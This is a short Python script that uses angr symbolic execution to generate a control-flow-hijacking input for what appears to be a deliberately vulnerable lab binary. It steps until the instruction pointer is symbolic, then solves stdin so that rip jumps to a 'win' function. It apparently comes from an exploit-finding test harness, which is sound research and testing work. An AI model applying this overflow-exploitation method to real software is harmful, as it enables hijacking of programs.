"""Exploit finding: ``save_unconstrained=True``, ``step()`` until a state's instruction pointer is
symbolic, then ``rip == win`` (angr's documentation of unconstrained successors)."""
import angr
import claripy

PROGRAM = "sc_overflow_O0"
EXPECT = b"you win"


def solve(binary, attach):
    proj = angr.Project(binary, auto_load_libs=False)
    data = claripy.BVS("data", 8 * 64)
    state = proj.factory.entry_state(stdin=angr.SimFileStream(name="stdin", content=data, size=64, has_end=True),
                                     add_options={angr.options.ZERO_FILL_UNCONSTRAINED_MEMORY})
    simgr = proj.factory.simulation_manager(state, save_unconstrained=True)
    attach(simgr)
    win = proj.loader.find_symbol("win").rebased_addr
    for _ in range(200):
        if simgr.unconstrained or not simgr.active:
            break
        simgr.step()
    s = simgr.unconstrained[0]
    s.add_constraints(s.regs.rip == win)
    return {"stdin": s.solver.eval(data, cast_to=bytes)}
